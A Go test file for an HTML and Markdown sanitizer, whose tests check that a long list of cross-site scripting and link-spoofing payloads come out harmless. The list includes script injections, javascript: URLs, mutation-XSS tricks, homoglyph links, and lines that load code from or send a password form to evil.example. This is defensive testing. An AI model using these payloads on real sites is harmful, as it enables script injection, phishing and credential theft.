package markup

import (
	"strings"
	"testing"
)

// attacks are ways to get a script, a request or a lie onto somebody's page.
var attacks = []string{
	// Plain scripts, and scripts in disguise.
	`<script>alert(1)</script>`,
	`<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`,
	`<script/src=https://evil.example/x.js>`,
	`<script >alert(1)</script >`,
	`<scr<script>ipt>alert(1)</scr</script>ipt>`,
	`<<script>alert(1)//<</script>`,
	"<script\n>alert(1)</script\t>",
	"<scr\x00ipt>alert(1)</scr\x00ipt>",
	`<script>alert(1)`,
	`</script><script>alert(1)</script>`,
	`<svg><script>alert(1)</script></svg>`,
	`<svg/onload=alert(1)>`,
	`<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`,
	`<svg><animate attributeName=href values=javascript:alert(1)></svg>`,
	`<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>`,
	`<object data="javascript:alert(1)"></object>`,
	`<embed src="javascript:alert(1)">`,
	`<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
	`<iframe src="javascript:alert(1)"></iframe>`,
	`<template><script>alert(1)</script></template>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	`<base href="https://evil.example/">`,
	`<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
	`<link rel=stylesheet href="https://evil.example/x.css">`,
	`<style>@import "https://evil.example/x.css";</style>`,
	`<form action="https://evil.example/"><input name=password><button formaction="javascript:alert(1)">go</button></form>`,
	`<isindex action="javascript:alert(1)" type=image>`,
	`<marquee onstart=alert(1)>x</marquee>`,
	`<details open ontoggle=alert(1)>x</details>`,
	`<video><source onerror=alert(1)></video>`,
	`<audio src=x onerror=alert(1)></audio>`,
	`<body onload=alert(1)>`,
	`<input autofocus onfocus=alert(1)>`,
	`<keygen autofocus onfocus=alert(1)>`,
	`<p/onmouseover=alert(1)>x</p>`,
	`<p onmouseover = "alert(1)" ONCLICK='alert(2)'>x</p>`,
	`<a onclick=alert(1)>x</a>`,
	`<p style="background:url(https://evil.example/x)">x</p>`,
	`<p style="x:expression(alert(1))">x</p>`,

	// Addresses that are scripts.
	`<a href="javascript:alert(1)">x</a>`,
	`<a href="JaVaScRiPt:alert(1)">x</a>`,
	`<a href=" javascript:alert(1)">x</a>`,
	"<a href=\"java\nscript:alert(1)\">x</a>",
	"<a href=\"java\tscript:alert(1)\">x</a>",
	"<a href=\"\x01javascript:alert(1)\">x</a>",
	`<a href="java&#10;script:alert(1)">x</a>`,
	`<a href="&#106;avascript:alert(1)">x</a>`,
	`<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>`,
	`<a href="javascript&colon;alert(1)">x</a>`,
	`<a href="javascript://elm.example/%0aalert(1)">elm.example</a>`,
	`<a href="vbscript:msgbox(1)">x</a>`,
	`<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
	`<a href="blob:https://elm.example/x">x</a>`,
	`<a href="file:///etc/passwd">x</a>`,
	`<a href="view-source:https://elm.example/">x</a>`,
	`<a href="//evil.example/x">x</a>`,
	`<a href="/\evil.example/x">x</a>`,
	`<a href="https:evil.example/x">x</a>`,
	`<a href='https://elm.example/"onclick="alert(1)'>elm.example</a>`,
	`<a href="https://elm.example/&quot; onclick=&quot;alert(1)">elm.example</a>`,
	`<a href="https://elm.example/?&quot;><script>alert(1)</script>">elm.example</a>`,
	`<a href="https://elm.example/#&quot;><script>alert(1)</script>">elm.example</a>`,
	`<a href="https://&quot;onclick=alert(1)//.example/">x</a>`,
	`<a href="https://<script>.example/">x</a>`,
	`<a href="mailto:&quot;onclick=alert(1)&quot;@elm.example">x</a>`,
	`<a href="https://elm.example/" rel="opener" target="_top" ping="https://evil.example/" download>x</a>`,
	`<img src=x onerror=alert(1)>`,
	`<img src="javascript:alert(1)" alt="x">`,
	`<img """><script>alert(1)</script>">`,
	`<img src="https://evil.example/1.gif" alt='"><script>alert(1)</script>'>`,
	`<img src="https://evil.example/1.gif" srcset="https://evil.example/2.gif 2x" lowsrc="javascript:alert(1)">`,
	`<image src="https://evil.example/1.gif" onerror=alert(1)>`,

	// Text that a second reading turns into tags.
	`&lt;script&gt;alert(1)&lt;/script&gt;`,
	`&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;`,
	`<textarea></textarea><script>alert(1)</script>`,
	`<title><img src=x onerror=alert(1)></title>`,
	`<xmp><script>alert(1)</script></xmp>`,
	`<plaintext><script>alert(1)</script>`,
	`<listing>&lt;img src=x onerror=alert(1)&gt;</listing>`,
	`<noembed><img src=x onerror=alert(1)></noembed>`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
	`<svg><style><img src="</style><img src=x onerror=alert(1)>">`,
	`<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
	`<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
	`<select><style></select><img src=x onerror=alert(1)></style>`,
	`<p><svg><desc><p></desc></svg><img src=x onerror=alert(1)>`,
	`<table><a href="javascript:alert(1)"><td>x</td></a></table>`,
	`<!--><img src=x onerror=alert(1)>-->`,
	`<!--<img src="--><img src=x onerror=alert(1)>">`,
	`<!-- --!><img src=x onerror=alert(1)> -->`,
	`<![CDATA[<script>alert(1)</script>]]>`,
	`<?xml version="1.0"?><?php echo 1 ?><script>alert(1)</script>`,
	`<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>&x;`,
	`<!ELEMENT x><img src=x onerror=alert(1)>`,
	`<a<b<c onclick=alert(1)>x`,
	`<p title="` + "`" + `onclick=alert(1)` + "`" + `">x`,
	`<p x="a>b" onclick=alert(1)>x`,
	`<p "onclick=alert(1)">x`,
	`<p =onclick=alert(1)>x`,
	"<p\x0conclick=alert(1)>x",
	`<p`, `<a href="https://elm.example/`, `<a href='x`, `</`, `<`, `<!`, `<!--`, `&`, `&#`, `&#x`, `&#xffffffff;`, `&#55296;`,
	"\xfe\xff<script>alert(1)</script>",
	"+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
	"\xbcscript\xbealert(1)\xbc/script\xbe",
	"\u2039script\u203aalert(1)\uff1cscript\uff1e",

	// Words that lie about where they lead, or which way they run.
	`<a href="https://evil.example/">https://elm.example/</a>`,
	`<a href="https://evil.example/">elm.example (elm.example)</a>`,
	`<a href="https://evil.example/">xevil.example</a>`,
	`<a href="https://elm.example@evil.example/">https://elm.example</a>`,
	`<a href="https://elm.example:443@evil.example/">elm.example:443</a>`,
	`<a href="https://evil.example/">https://evil.example@elm.example/</a>`,
	`<a href="https://evil.example\@elm.example/">elm.example</a>`,
	`<a href="https://evil.example%2f@elm.example/">evil.example</a>`,
	"<a href=\"https://evil.example/\">\u202eelpmaxe.mle//:sptth</a>",
	"<a href=\"https://evil.example/\">https://elm\u2024example/</a>",
	"<a href=\"https://\u0435vil.example/\">\u0435vil.example</a>",
	"<a href=\"https://elm\u3002example/\">elm.example</a>",
	`<a href="https://evil.example/">@rowan@elm.example</a>`,
	`<p>a</p></div></article></main><p>outside</p>`,
	`<p id="urgent-help" class="exit" name="x" role="alert" aria-hidden="true" tabindex="1" contenteditable>x</p>`,
}

func TestAttacksComeOutHarmless(t *testing.T) {
	for _, in := range attacks {
		out := Sanitize(in)
		checkSafe(t, out)
		if again := Sanitize(out); again != out {
			t.Errorf("sanitizing %q twice\n got %q\nwant %q", in, again, out)
		}
	}
}

func TestAttacksInMarkdownComeOutHarmless(t *testing.T) {
	wrappings := []string{"%", "# %", "> %", "- %", "[x](%)", "[x](<%>)", "![%](https://elm.example/)", "![x](%)",
		"<%>", "[x]: %\n\n[x]", "[x](https://elm.example/ \"%\")", "```%\n%\n```", "`%`", "**%**", "@%", "a@%", "https://%", "www.%"}
	for _, in := range attacks {
		for _, w := range wrappings {
			out := Render(strings.ReplaceAll(w, "%", in))
			checkSafe(t, out)
			if again := Sanitize(out); again != out {
				t.Errorf("sanitizing %q\n got %q\nwant %q", in, again, out)
			}
		}
	}
}
